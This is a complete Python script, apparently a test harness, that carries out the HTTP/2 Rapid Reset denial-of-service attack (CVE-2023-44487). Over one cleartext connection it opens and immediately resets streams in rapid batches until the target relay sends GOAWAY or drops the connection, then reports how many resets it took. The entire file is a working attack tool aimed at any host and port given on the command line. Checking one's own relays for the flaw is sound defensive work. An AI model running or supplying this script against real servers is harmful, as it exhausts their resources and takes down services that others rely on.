#!/usr/bin/env python3
"""Rapid reset (CVE-2023-44487) against a relay: one cleartext HTTP/2
connection (prior knowledge) opening stream after stream and resetting each
at once, as fast as it can, until the relay sends GOAWAY or closes the
connection, or COUNT streams were reset.

Usage: rapid_reset.py HOST PORT AUTHORITY COUNT

Prints one line: `goaway CODE after N resets`, `closed after N resets` or
`survived N resets`. Needs the `h2` package (Debian: python3-h2).
"""

import socket
import sys

import h2.config
import h2.connection
import h2.events
import h2.exceptions

BATCH = 50


def main():
    host, port, authority, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    sock = socket.create_connection((host, port), timeout=30)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", "/")]
    resets = 0

    def goaway_in(data):
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                return event.error_code
        return None

    try:
        while resets < count:
            for _ in range(BATCH):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, headers, end_stream=True)
                conn.reset_stream(stream)
                resets += 1
            sock.sendall(conn.data_to_send())
            sock.setblocking(False)
            try:
                data = sock.recv(65536)
            except BlockingIOError:
                data = None
            finally:
                sock.setblocking(True)
            if data == b"":
                print(f"closed after {resets} resets")
                return
            if data:
                code = goaway_in(data)
                if code is not None:
                    print(f"goaway {int(code)} after {resets} resets")
                    return
                sock.sendall(conn.data_to_send())
    except (BrokenPipeError, ConnectionResetError):
        print(f"closed after {resets} resets")
        return
    except h2.exceptions.ProtocolError:
        # The connection was already terminated on our side.
        print(f"closed after {resets} resets")
        return
    print(f"survived {resets} resets")


if __name__ == "__main__":
    main()
